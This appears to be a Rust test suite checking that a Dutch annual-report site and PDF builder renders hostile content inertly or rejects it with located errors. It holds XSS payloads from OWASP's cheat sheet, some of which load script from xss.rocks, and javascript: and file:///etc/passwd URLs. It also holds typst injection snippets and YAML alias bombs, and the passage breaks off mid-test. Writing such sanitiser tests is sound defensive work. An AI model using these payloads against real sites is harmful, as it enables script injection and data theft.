//! A hostile corpus: markup that tries to run in the site, typst syntax that
//! tries to run in the PDF, YAML that tries to exhaust the parser, and files
//! no writer should send. Each case has its outcome: a clear error naming
//! the file and line, or the text shown literally and inertly in both the
//! HTML (parsed with `scraper`) and the PDF (`pdftotext`). No case may
//! panic or end with another exit code than 0, 1 or 2.

mod common;
use common::{Case, Outcome, pdftotext, squash};
use scraper::{ElementRef, Html, Selector};

const PDF: &str = "out/jaarrapportage-proef-2030.pdf";

fn sel(s: &str) -> Selector {
    Selector::parse(s).unwrap_or_else(|e| panic!("selector {s:?}: {e:?}"))
}

/// Builds HTML and PDF into `out/`; the build must succeed.
fn build(case: &Case) -> Outcome {
    let out = case.run(&["build", "content", "--out", "out", "--format", "html,pdf"]);
    out.no_panic().code(0);
    out
}

fn page(case: &Case, name: &str) -> Html {
    let path = case.root().join("out/site").join(name);
    Html::parse_document(&std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display())))
}

fn pages(case: &Case) -> Vec<(String, Html)> {
    let mut names: Vec<String> = std::fs::read_dir(case.root().join("out/site"))
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|n| n.ends_with(".html"))
        .collect();
    names.sort();
    names.into_iter().map(|n| (n.clone(), page(case, &n))).collect()
}

/// The PDF's text, squashed. Read beyond the page box: typst never breaks a
/// word, so a long token without a break opportunity (the entity-encoded
/// `<IMG SRC=&#106;...>`) runs past the right margin, where pdftotext's
/// default crop would miss it. What is checked here is that the text is
/// there literally and inertly; that it overflows is a layout matter of the
/// template.
fn pdf_text(case: &Case) -> String {
    let out = std::process::Command::new("pdftotext")
        .args(["-enc", "UTF-8", "-x", "0", "-y", "0", "-W", "10000", "-H", "10000"])
        .arg(case.root().join(PDF))
        .arg("-")
        .output()
        .expect("pdftotext (poppler-utils) must be installed: .ci/run installs it");
    assert!(out.status.success(), "pdftotext failed");
    squash(&String::from_utf8_lossy(&out.stdout))
}

fn text_of(el: ElementRef) -> String {
    el.text().collect()
}

fn contribution_text(case: &Case, chapter_page: &str, article: &str) -> String {
    let page = page(case, chapter_page);
    let el = page.select(&sel(&format!("article#{article}"))).next().unwrap_or_else(|| panic!("no article#{article}"));
    text_of(el)
}

/// Browsers drop white space and control characters inside a URL and
/// ignore case in its scheme.
fn dangerous_url(value: &str) -> bool {
    let cleaned: String =
        value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_ascii_lowercase();
    ["javascript:", "data:", "vbscript:", "livescript:", "file:"].iter().any(|s| cleaned.starts_with(s))
}

/// The site's own components that hold form or SVG elements: the filter
/// and search forms, the chart on the overview page, the planning and the
/// key figures.
fn ours(el: ElementRef) -> bool {
    let is_ours = |e: &scraper::node::Element| {
        (e.name() == "form" && matches!(e.id(), Some("filter" | "zoekformulier")))
            || (e.name() == "figure"
                && ["grafiek", "planning", "kerncijfer"]
                    .iter()
                    .any(|c| e.has_class(c, scraper::CaseSensitivity::CaseSensitive)))
    };
    is_ours(el.value()) || el.ancestors().any(|a| a.value().as_element().is_some_and(is_ours))
}

/// The site runs nothing from the content: its only scripts are its own
/// static/filter.js, static/zoeken.js and static/planning.js, no element from the content can
/// run or load anything, no attribute is an event handler and no URL has a
/// dangerous scheme.
fn assert_inert_site(case: &Case) {
    for (name, page) in pages(case) {
        for s in page.select(&sel("script")) {
            assert!(
                matches!(s.attr("src"), Some("static/filter.js" | "static/zoeken.js" | "static/planning.js"))
                    && s.inner_html().trim().is_empty(),
                "{name}: a script other than the site's own: {}",
                s.html()
            );
        }
        let main = page.select(&sel("main")).next().unwrap_or_else(|| panic!("{name}: no <main>"));
        for bad in [
            "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "meta", "base", "link",
            "form", "input", "button", "textarea", "svg", "math", "noscript", "template", "details", "body", "isindex",
        ] {
            let found: Vec<String> = main.select(&sel(bad)).filter(|e| !ours(*e)).map(|e| e.html()).collect();
            assert!(found.is_empty(), "{name}: <{bad}> from the content: {found:?}");
        }
        assert!(page.select(&sel("base")).next().is_none(), "{name}: a <base>");
        for meta in page.select(&sel("meta[http-equiv]")) {
            assert_eq!(meta.attr("http-equiv"), Some("Content-Security-Policy"), "{name}: {}", meta.html());
        }
        for el in page.select(&sel("*")) {
            let tag = el.value().name();
            for (attr, value) in el.value().attrs() {
                assert!(!attr.to_ascii_lowercase().starts_with("on"), "{name}: <{tag} {attr}=\"{value}\">");
                assert_ne!(attr, "style", "{name}: <{tag} style=\"{value}\">");
                let local = attr.rsplit(':').next().unwrap_or(attr);
                if matches!(
                    local,
                    "href" | "src" | "action" | "formaction" | "data" | "srcset" | "poster" | "background"
                ) {
                    assert!(!dangerous_url(value), "{name}: <{tag} {attr}=\"{value}\">");
                }
            }
        }
    }
}

// ------------------------------------------------------------------ markup

/// OWASP's XSS filter-evasion cheat sheet, as raw HTML in running text. Each
/// is preceded by a marker so it is inline HTML in a paragraph; what a
/// reader sees is the source, literally.
const RAW: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"  javascript:alert('XSS');\">",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    "<object type=\"text/x-scriptlet\" data=\"http://xss.rocks/scriptlet.html\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIg==\"></embed>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<FORM ACTION=\"javascript:alert('XSS')\"><INPUT TYPE=\"submit\"></FORM>",
    "<BODY ONLOAD=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<a href=\"javas&#99;ript:alert(1)\">klik</a>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
];

/// Markdown links whose target could run code: the link goes, the text
/// stays. (Markdown, visible text.)
const LINKS: &[(&str, &str)] = &[
    ("[L01](javascript:alert(1))", "L01"),
    ("[L02](JaVaScRiPt:alert(1))", "L02"),
    ("[L03](&#106;avascript:alert(1))", "L03"),
    ("[L04](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))", "L04"),
    ("[L05](java&#x09;script:alert(1))", "L05"),
    ("[L06](<java script:alert(1)>)", "L06"),
    ("[L07](java&#x0A;script:alert(1))", "L07"),
    ("[L08](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "L08"),
    ("[L09](vbscript:msgbox(1))", "L09"),
    ("[L10](VBScript:msgbox(1))", "L10"),
    ("[L11](javascript&colon;alert(1))", "L11"),
    ("[L12](jav&#97;script:alert(1))", "L12"),
    ("[L13](DATA:text/html,x)", "L13"),
    ("[L14](file:///etc/passwd)", "L14"),
    ("[L15][kwaad]", "L15"),
    ("<javascript:alert(15)>", "javascript:alert(15)"),
    ("[L17](https://example.org \"\\\" onmouseover=\\\"alert(1)\")", "L17"),
];

fn hostile_body() -> String {
    let mut body = String::from("---\nstatus: in-uitvoering\n");
    body.push_str("samenvatting: \"<script>alert('samenvatting')</script>\"\n");
    body.push_str("mijlpalen:\n  - wanneer: 2031-Q2\n    wat: \"<img src=x onerror=alert('mijlpaal')>\"\n");
    body.push_str("bronnen:\n  - \"<a href=\\\"javascript:alert('bron')\\\">bron</a>\"\n---\n");
    for (i, raw) in RAW.iter().enumerate() {
        body.push_str(&format!("R{i:02}: {raw}\n\n"));
    }
    for (md, _) in LINKS {
        body.push_str(&format!("Link: {md}\n\n"));
    }
    body.push_str("## Kop {#k21 onclick=\"alert(1)\" style=\"color:red\" .klasse}\n\n");
    body.push_str("[kwaad]: javascript:alert('ref')\n");
    body
}

/// Hostile text in the YAML fields that reach the templates.
fn hostile_settings(case: &Case) {
    case.edit(
        "rapport.yaml",
        "titel: \"Werk: eerlijk uitzendwerk\"",
        "titel: \"Werk <svg onload=alert('hoofdstuk')>\"",
    );
    case.edit(
        "rapport.yaml",
        "JenV: Ministerie van Justitie en Veiligheid",
        "JenV: \"Ministerie <iframe src=javascript:alert('ministerie')>\"",
    );
    case.edit(
        "aanbevelingen.yaml",
        "titel: Verplichte certificering van uitzendbureaus",
        "titel: \"Certificering <style>*{x:expression(alert('titel'))}</style>\"",
    );
    case.edit(
        "paginas/inleiding.md",
        "titel: Inleiding",
        "titel: \"Inleiding <base href=javascript:alert('pagina')//>\"",
    );
}

const FIELDS: &[&str] = &[
    "<script>alert('samenvatting')</script>",
    "<img src=x onerror=alert('mijlpaal')>",
    "<a href=\"javascript:alert('bron')\">bron</a>",
    "Werk <svg onload=alert('hoofdstuk')>",
    "Ministerie <iframe src=javascript:alert('ministerie')>",
    "Certificering <style>*{x:expression(alert('titel'))}</style>",
    "Inleiding <base href=javascript:alert('pagina')//>",
];

#[test]
fn owasp_markup_is_inert_text_in_the_site_and_the_pdf() {
    let case = Case::new("valid");
    case.write("bijdragen/SZW/2.1.A.md", hostile_body());
    hostile_settings(&case);
    build(&case);
    assert_inert_site(&case);

    let shown = squash(&contribution_text(&case, "werk.html", "aanbeveling-2-1-a"));
    let pdf = pdf_text(&case);
    let expected = RAW.iter().copied().chain(LINKS.iter().map(|(_, text)| *text)).chain(["Kop"]);
    for (what, text) in [("site", &shown), ("PDF", &pdf)] {
        for e in expected.clone() {
            assert!(text.contains(&squash(e)), "{e:?} is not shown literally in the {what}:\n{text}");
        }
    }
    let site_text: String =
        pages(&case).iter().map(|(_, p)| squash(&p.root_element().text().collect::<String>())).collect();
    for field in FIELDS {
        assert!(site_text.contains(&squash(field)), "{field:?} is not shown literally in the site");
        assert!(pdf.contains(&squash(field)), "{field:?} is not shown literally in the PDF:\n{pdf}");
    }
    // The harmless link keeps its target.
    let werk = page(&case, "werk.html");
    assert!(werk.select(&sel("a[href='https://example.org']")).next().is_some(), "L17 lost its safe target");
}

#[test]
fn a_cross_reference_that_is_no_identifier_is_an_error_with_its_line() {
    let case = Case::new("valid");
    case.edit(SZW, "Zie ook [[4.1.A]].", "Zie ook [[javascript:alert(1)]] en [[<script>]].");
    case.check()
        .no_panic()
        .code(1)
        .has("content/bijdragen/SZW/2.1.A.md:13:67: error: [[javascript:alert(1)]] is not a recommendation identifier")
        .has("content/bijdragen/SZW/2.1.A.md:13:94: error: [[<script>]] is not a recommendation identifier");
}

#[test]
fn images_that_are_not_files_of_the_report_are_errors_with_their_line() {
    let case = Case::new("valid");
    std::fs::write(case.root().join("buiten.svg"), "<svg xmlns=\"http://www.w3.org/2000/svg\"/>").unwrap();
    let images = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "vbscript:x",
        "https://kwaad.example/x.png",
        "//kwaad.example/x.png",
        "file:///etc/passwd",
        "../../../buiten.svg",
        "/etc/passwd",
    ];
    let mut body = String::from("---\nstatus: in-uitvoering\n---\n");
    for img in images {
        body.push_str(&format!("Plaatje ![p]({img}) hier.\n\n"));
    }
    case.write("bijdragen/SZW/2.1.A.md", body);
    let out = case.check();
    out.no_panic().code(1);
    for (i, img) in images.iter().enumerate() {
        let line = 4 + 2 * i;
        out.has(&format!("content/bijdragen/SZW/2.1.A.md:{line}:9: error: image `"));
        let _ = img;
    }
    assert!(!case.root().join("output").exists(), "nothing is written");
}

#[cfg(unix)]
#[test]
fn an_image_linked_to_a_file_outside_is_an_error_and_a_scheme_like_file_name_stays_a_path() {
    let case = Case::new("valid");
    std::fs::write(case.root().join("geheim.svg"), "<svg xmlns=\"http://www.w3.org/2000/svg\"/>").unwrap();
    std::os::unix::fs::symlink(case.root().join("geheim.svg"), case.content().join("afbeeldingen/link.svg")).unwrap();
    case.edit("bijdragen/SZW/2.1.A.md", "../../afbeeldingen/tijdlijn.svg", "../../afbeeldingen/link.svg");
    case.check().no_panic().code(1).has("content/bijdragen/SZW/2.1.A.md:19:1: error: image `../../afbeeldingen/link.svg` lies outside the content directory");

    // A file of the report whose name looks like a URL scheme is a path.
    let case = Case::new("valid");
    std::fs::copy(case.content().join("afbeeldingen/tijdlijn.svg"), case.content().join("javascript:alert(1).svg"))
        .unwrap();
    case.edit("bijdragen/SZW/2.1.A.md", "../../afbeeldingen/tijdlijn.svg", "/javascript:alert(1).svg");
    build(&case);
    assert_inert_site(&case);
    let werk = page(&case, "werk.html");
    let srcs: Vec<&str> = werk.select(&sel("main img")).filter_map(|i| i.attr("src")).collect();
    assert_eq!(srcs, ["./javascript:alert(1).svg"]);
}

// ------------------------------------------------------------------- typst

#[test]
fn typst_syntax_prints_literally_wherever_text_goes() {
    let snippets = [
        "#read(\"data.json\")",
        "#let x = 1",
        "#set text(fill: red)",
        "#set page(fill: red)",
        "#show heading: none",
        "#show: body => []",
        "#import \"report.typ\": *",
        "#include \"report.typ\"",
        "#image(\"/etc/passwd\")",
        "#link(\"file:///etc/passwd\")[x]",
        "#context here().page()",
        "#{ panic(\"boem\") }",
        "#eval(\"1 + 1\")",
        "#sys.inputs",
        "] ) } [ ( {",
        "[[ ]] ((",
        "$ sum_(i=0)^n i $",
        "$x$",
        "<etiket>",
        "@aanbeveling-2-1-a",
        "@etiket[zie]",
        "a~b",
        "= Geen kop",
        "// geen commentaar",
        "/* geen commentaar",
        "\\u{1F600}",
    ];
    let mut body = String::from("---\nstatus: in-uitvoering\nsamenvatting: \"#panic(\\\"samenvatting\\\") $x$\"\n");
    body.push_str("mijlpalen:\n  - wanneer: 2031-Q2\n    wat: \"#set page(fill: red) ]\"\n");
    body.push_str("bronnen:\n  - \"@etiket <etiket> #bron\"\n---\n");
    for s in snippets {
        // Backslashes escape Markdown punctuation only; the typst text stays.
        let md: String =
            s.chars().map(|c| if "*_`[]<>\\".contains(c) { format!("\\{c}") } else { c.to_string() }).collect();
        body.push_str(&format!("Tekst: {md}\n\n"));
    }
    body.push_str("## Kop #panic(\"kop\") $y$\n\n");
    body.push_str("- lijst #set list(marker: \"X\")\n- `#eval(\"code\")`\n\n");
    body.push_str("| #table() | $z$ |\n|---|---|\n| @cel | <cel> |\n\n");
    body.push_str("> citaat #quote[x]\n\n");
    body.push_str("Voetnoot[^1] en link [#link](https://example.org).\n\n[^1]: noot #footnote[x] $n$\n\n");
    body.push_str("```typst\n#panic(\"in een codeblok\")\n#set page(fill: red)\n```\n");
    let case = Case::new("valid");
    case.write("bijdragen/SZW/2.1.A.md", body);
    case.edit("rapport.yaml", "titel: \"Werk: eerlijk uitzendwerk\"", "titel: \"Werk #panic(\\\"hoofdstuk\\\") ]\"");
    build(&case);
    let pdf = pdf_text(&case);
    let expected = snippets.iter().copied().chain([
        "#panic(\"samenvatting\") $x$",
        "#set page(fill: red) ]",
        "@etiket <etiket> #bron",
        "Kop #panic(\"kop\") $y$",
        "lijst #set list(marker: \"X\")",
        "#eval(\"code\")",
        "#table()",
        "$z$",
        "@cel",
        "<cel>",
        "citaat #quote[x]",
        "noot #footnote[x] $n$",
        "#panic(\"in een codeblok\")",
        "Werk #panic(\"hoofdstuk\") ]",
    ]);
    let shown = squash(&contribution_text(&case, "werk.html", "aanbeveling-2-1-a"));
    for e in expected {
        assert!(pdf.contains(&squash(e)), "{e:?} did not print literally in the PDF:\n{pdf}");
        if !e.starts_with("Werk") {
            assert!(shown.contains(&squash(e)), "{e:?} is not in the site:\n{shown}");
        }
    }
    assert!(!pdf.contains("jaarrapport-export") && !pdf.contains("\"chapters\""), "a file was read into the PDF");
    assert!(!pdf.contains("root:x:0:0"), "a file was read into the PDF");
}

// -------------------------------------------------------------------- YAML

const SZW: &str = "bijdragen/SZW/2.1.A.md";
const SZW_SHOWN: &str = "content/bijdragen/SZW/2.1.A.md";

fn yaml_case(file: &str, text: &str) -> Outcome {
    let case = Case::new("valid");
    case.write(file, text);
    let out = case.check();
    out.no_panic();
    out
}

fn alias_bomb(indent: &str) -> String {
    let mut bomb = format!("{indent}- &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    let names = ["a", "b", "c", "d", "e", "f", "g", "h", "i"];
    for w in names.windows(2) {
        bomb.push_str(&format!("{indent}- &{} [{}]\n", w[1], vec![format!("*{}", w[0]); 9].join(", ")));
    }
    bomb
}

#[test]
fn yaml_alias_bombs_are_errors_with_their_line() {
    let front = format!("---\nstatus: afgerond\nbronnen:\n{}---\nTekst\n", alias_bomb("  "));
    yaml_case(SZW, &front).code(1).has(&format!("{SZW_SHOWN}:")).mentions("YAML is nested or repeated too deeply");
    let catalogue = alias_bomb("");
    let out = yaml_case("aanbevelingen.yaml", &catalogue);
    out.code(1).has("content/aanbevelingen.yaml:").mentions("too deeply");
    let rapport = format!("{}\nextra:\n{}", Case::new("valid").read("rapport.yaml"), alias_bomb("  "));
    yaml_case("rapport.yaml", &rapport).code(1).has("content/rapport.yaml:").mentions("too deeply");
}

#[test]
fn yaml_deep_nesting_is_an_error_with_its_line() {
    let flow = format!("---\nstatus: afgerond\nbronnen: {}{}\n---\nTekst\n", "[".repeat(10_000), "]".repeat(10_000));
    yaml_case(SZW, &flow).code(1).has(&format!("{SZW_SHOWN}:3:")).mentions("YAML is nested or repeated too deeply");
    let mut block = String::from("---\nstatus: afgerond\nbronnen:\n");
    for i in 1..=1_000 {
        block.push_str(&format!("{}- \n", "  ".repeat(i)));
    }
    block.push_str("---\nTekst\n");
    yaml_case(SZW, &block).code(1).has(&format!("{SZW_SHOWN}:")).mentions("too deeply");
    let maps = format!("---\nstatus: afgerond\nbronnen: {}x{}\n---\n", "{a: ".repeat(5_000), "}".repeat(5_000));
    yaml_case(SZW, &maps).code(1).has(&format!("{SZW_SHOWN}:3:")).mentions("too deeply");
}

#[test]
fn yaml_duplicate_keys_point_at_the_second_one() {
    let front = "---\nstatus: in-uitvoering\nsamenvatting: een\nstatus: afgerond\n---\nTekst\n";
    yaml_case(SZW, front).code(1).has(&format!("{SZW_SHOWN}:4:1: error: duplicate entry with key \"status\""));
    let nested = "---\nstatus: afgerond\nmijlpalen:\n  - wanneer: 2030-01\n    wat: a\n    wat: b\n---\nTekst\n";
    yaml_case(SZW, nested)
        .code(1)
        .has(&format!("{SZW_SHOWN}:6:5: error: mijlpalen[0]: duplicate entry with key \"wat\""));
    let case = Case::new("valid");
    let rapport = format!("{}jaar: 2031\n", case.read("rapport.yaml"));
    let line = rapport.lines().count();
    yaml_case("rapport.yaml", &rapport)
        .code(1)
        .has(&format!("content/rapport.yaml:{line}:1: error: duplicate entry with key \"jaar\""));
}

#[test]
fn yaml_tabs_are_errors_with_a_hint_or_fine_where_yaml_allows_them() {
    let indent = "---\nstatus: afgerond\nmijlpalen:\n\t- wanneer: 2030-01\n---\nTekst\n";
    yaml_case(SZW, indent).code(1).has(&format!("{SZW_SHOWN}:4:")).mentions("YAML indents with spaces, not tabs");
    let first = "---\n\tstatus: afgerond\n---\nTekst\n";
    yaml_case(SZW, first)
        .code(1)
        .has(&format!("{SZW_SHOWN}:2:1: error:"))
        .mentions("YAML indents with spaces, not tabs");
    // A tab after the colon separates key and value, as YAML allows.
    let separator = "---\nstatus:\tafgerond\nsamenvatting:\tKlaar.\n---\nTekst\n";
    yaml_case(SZW, separator).code(0);
}

#[test]
fn yaml_values_of_the_wrong_kind_are_errors_with_their_line() {
    for (front, headline) in [
        ("status: [afgerond]", "2:9: error: wrong kind of value for `status`"),
        ("status: afgerond\nmijlpalen: 12", "3:12: error: wrong kind of value for `mijlpalen`"),
        (
            "status: afgerond\nmijlpalen:\n  - wanneer: 2030-01\n    wat: [a, b]",
            "5:10: error: wrong kind of value for `mijlpalen[0].wat`",
        ),
        ("status: afgerond\nbronnen: {a: 1}", "3:10: error: wrong kind of value for `bronnen`"),
        (
            "status: afgerond\nmijlpalen:\n  - wanneer: [2030]\n    wat: x",
            "4:14: error: wrong kind of value for `mijlpalen[0].wanneer`: sequence, expected a single value",
        ),
        ("- status\n- afgerond", "2:1: error: front matter must be fields"),
        ("status: !!binary aGVsbG8=", "2:9: error:"),
    ] {
        yaml_case(SZW, &format!("---\n{front}\n---\nTekst\n")).code(1).has(&format!("{SZW_SHOWN}:{headline}"));
    }
    let case = Case::new("valid");
    let rapport = case.read("rapport.yaml").replace("jaar: 2030", "jaar: 99999999999999999999999");
    yaml_case("rapport.yaml", &rapport).code(1).has("content/rapport.yaml:3:7: error: wrong kind of value for `jaar`");
    let rapport = case.read("rapport.yaml").replace("jaar: 2030", "jaar: \"2030\"");
    yaml_case("rapport.yaml", &rapport).code(1).has("content/rapport.yaml:3:7: error: wrong kind of value for `jaar`");
}

#[test]
fn yaml_very_long_scalars_are_fine_and_overlong_keys_are_errors() {
    // A 1 MB summary is odd but valid: checked without trouble.
    let long = "lang ".repeat(200_000);
    yaml_case(SZW, &format!("---\nstatus: afgerond\nsamenvatting: {long}\n---\nTekst\n")).code(0);
    // YAML limits a plain key to 1024 characters; the excerpt stays short.
    let out = yaml_case(SZW, &format!("---\nstatus: afgerond\n{}: x\n---\nTekst\n", "k".repeat(1_000_000)));
    out.code(1).has(&format!("{SZW_SHOWN}:3:"));
    assert!(out.stderr.len() < 4_000, "the excerpt of a 1 MB line is cut short: {} bytes", out.stderr.len());
    // A quoted scalar that never ends.
    let out = yaml_case(SZW, &format!("---\nstatus: afgerond\nsamenvatting: \"{}\n---\nTekst\n", "x".repeat(100_000)));
    out.code(1).has(&format!("{SZW_SHOWN}:"));
}

// ------------------------------------------------------------------- files

#[test]
fn other_encodings_are_errors_naming_the_file_and_line() {
    let case = Case::new("valid");
    case.write(SZW, b"---\nstatus: in-uitvoering\n---\nDe caf\xe9 en het ni\xefve idee.\n".as_slice());
    let utf16le: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain("---\nstatus: afgerond\n---\nTekst\n".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let utf16be: Vec<u8> =
        [0xFE, 0xFF].into_iter().chain("Tekst\n".encode_utf16().flat_map(u16::to_be_bytes)).collect();
    let no_bom: Vec<u8> = "Tekst\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    case.write("bijdragen/BZK/4.1.A.md", utf16le);
    case.write("paginas/inleiding.md", utf16be);
    case.write("paginas/conclusie.md", no_bom);
    case.write("rapport.yaml", b"titel: Jaarrapportage \x96 2030\n".as_slice());
    let out = case.check();
    out.no_panic()
        .code(1)
        .has(&format!("{SZW_SHOWN}:1:1: error: file is not valid UTF-8 (first bad byte at line 4, column 7)"))
        .has("content/bijdragen/BZK/4.1.A.md:1:1: error: file is UTF-16 encoded")
        .has("content/paginas/inleiding.md:1:1: error: file is UTF-16 encoded")
        .has("content/paginas/conclusie.md:1:1: error: file is binary")
        .has("content/rapport.yaml:1:1: error: file is not valid UTF-8 (first bad byte at line 1, column 23)");
}

#[test]
fn bom_and_crlf_are_fine_and_leave_no_trace() {
    let case = Case::new("valid");
    let text = case.read(SZW).replace("Het stelsel", "Het BOM-vrije stelsel").replace('\n', "\r\n");
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend_from_slice(text.as_bytes());
    case.write(SZW, bytes);
    case.write("paginas/conclusie.md", "\u{feff}# Conclusie\r\rAlles loopt.\r");
    build(&case);
    let shown = contribution_text(&case, "werk.html", "aanbeveling-2-1-a");
    assert!(shown.contains("Het BOM-vrije stelsel"), "{shown}");
    for (name, page) in pages(&case) {
        let html = page.html();
        assert!(!html.contains('\u{feff}') && !html.contains('\r'), "{name} carries a BOM or CR");
    }
    let pdf = pdftotext(&case.root().join(PDF));
    assert!(squash(&pdf).contains("HetBOMvrijestelsel"), "{pdf}");
    assert!(!pdf.contains('\u{feff}'), "the PDF carries a BOM");
}

/// An empty file is most often a save that went wrong. It is a warning,
/// not an error: one empty file must not hold up the whole report, but it
/// must not pass silently either.
#[test]
fn empty_markdown_files_are_a_warning_and_build() {
    let case = Case::new("valid");
    case.write("bijdragen/BZK/4.1.A.md", "");
    case.write("bijdragen/JenV/2.1.A.md", "\u{feff}\r\n  \n");
    case.write("hoofdstukken/werk.md", "");
    let out = build(&case);
    out.has("content/bijdragen/BZK/4.1.A.md:1:1: warning: file is empty")
        .has("content/bijdragen/JenV/2.1.A.md:1:1: warning: file is empty")
        .has("content/hoofdstukken/werk.md:1:1: warning: file is empty");
    // Empty settings are an error: the report has no title.
    let case = Case::new("valid");
    case.write("rapport.yaml", "");
    case.check().no_panic().code(1).has("content/rapport.yaml:1:1: error: missing field `titel`");
    let case = Case::new("valid");
    case.write("aanbevelingen.yaml", "");
    case.check().no_panic().code(1).has("content/aanbevelingen.yaml:1:1: error:");
}

#[test]
fn a_5_mb_contribution_builds() {
    let case = Case::new("valid");
    let para = (0..100).map(|i| format!("woord{i}")).collect::<Vec<_>>().join(" ");
    let mut body = String::from("---\nstatus: in-uitvoering\n---\nEERSTEWOORD\n\n");
    while body.len() < 5 * 1024 * 1024 {
        body.push_str(&para);
        body.push_str("\n\n");
    }
    body.push_str("LAATSTEWOORD\n");
    case.write(SZW, body);
    build(&case);
    let shown = contribution_text(&case, "werk.html", "aanbeveling-2-1-a");
    let pdf = pdftotext(&case.root().join(PDF));
    for w in ["EERSTEWOORD", "woord99", "LAATSTEWOORD"] {
        assert!(shown.contains(w), "{w} is not in the site");
        assert!(pdf.contains(w), "{w} is not in the PDF");
    }
}

#[test]
fn a_1_mb_single_line_builds() {
    let case = Case::new("valid");
    let mut line = String::from("BEGINREGEL");
    let mut i = 0;
    while line.len() < 1024 * 1024 {
        line.push_str(&format!(" w{i}"));
        i += 1;
    }
    line.push_str(" EINDREGEL");
    case.write(SZW, format!("---\nstatus: in-uitvoering\n---\n{line}\n"));
    build(&case);
    let shown = contribution_text(&case, "werk.html", "aanbeveling-2-1-a");
    let pdf = pdftotext(&case.root().join(PDF));
    for w in ["BEGINREGEL", " w4711 ", "EINDREGEL"] {
        assert!(shown.contains(w), "{w:?} is not in the site");
        assert!(pdf.replace('\n', " ").contains(w), "{w:?} is not in the PDF");
    }
}

/// `*a0 _a1 *a2 ... diepe nadruk ... z2* z1_ z0*`: words between the
/// delimiters, so typst can break the line.
fn nested_emphasis(depth: usize) -> String {
    let delim = |i: usize| if i.is_multiple_of(2) { '*' } else { '_' };
    let open: String = (0..depth).map(|i| format!("{}a{i} ", delim(i))).collect();
    let close: String = (0..depth).rev().map(|i| format!(" z{i}{}", delim(i))).collect();
    format!("{open}diepe nadruk{close}\n")
}

/// Nesting deeper than the PDF can take is flattened: the text stays, the
/// build neither overflows a stack nor fails in typst.
#[test]
fn ten_thousand_nested_lists_and_quotes_build() {
    for (what, body, deepest) in [
        ("lists", format!("{}diepe lijst\n", "- ".repeat(10_000)), "diepe lijst"),
        ("ordered lists", format!("{}diepe opsomming\n", "1. ".repeat(10_000)), "diepe opsomming"),
        ("quotes", format!("{}diep citaat\n", "> ".repeat(10_000)), "diep citaat"),
        ("quoted lists", format!("{}diep gemengd\n", "> - ".repeat(5_000)), "diep gemengd"),
        ("emphasis", nested_emphasis(5_000), "diepe nadruk"),
        (
            "links",
            format!("{}diepe link{}\n", "[w ".repeat(10_000), "](https://example.org) w".repeat(10_000)),
            "diepe link",
        ),
    ] {
        let case = Case::new("valid");
        let note = "> ".repeat(100);
        case.write(
            SZW,
            format!("---\nstatus: in-uitvoering\n---\nBoven.\n\n{body}\nOnder[^n].\n\n[^n]: {note}diepe noot\n"),
        );
        let out = case.run(&["build", "content", "--out", "out", "--format", "html,pdf"]);
        out.no_panic();
        assert_eq!(out.code, 0, "{what}: {}", out.stderr);
        // The words as text of the page (parsing 10,000 levels with html5ever
        // in a debug build is slow, and they are plain text there).
        let shown = std::fs::read_to_string(case.root().join("out/site/werk.html")).unwrap();
        let pdf = pdftotext(&case.root().join(PDF)).split_whitespace().collect::<Vec<_>>().join(" ");
        for w in ["Boven.", deepest, "Onder", "diepe noot"] {
            assert!(shown.contains(w), "{what}: {w:?} is not in the site");
            assert!(pdf.contains(w), "{what}: {w:?} is not in the PDF");
        }
    }
}

#[test]
fn binary_files_are_errors_or_ignored() {
    let case = Case::new("valid");
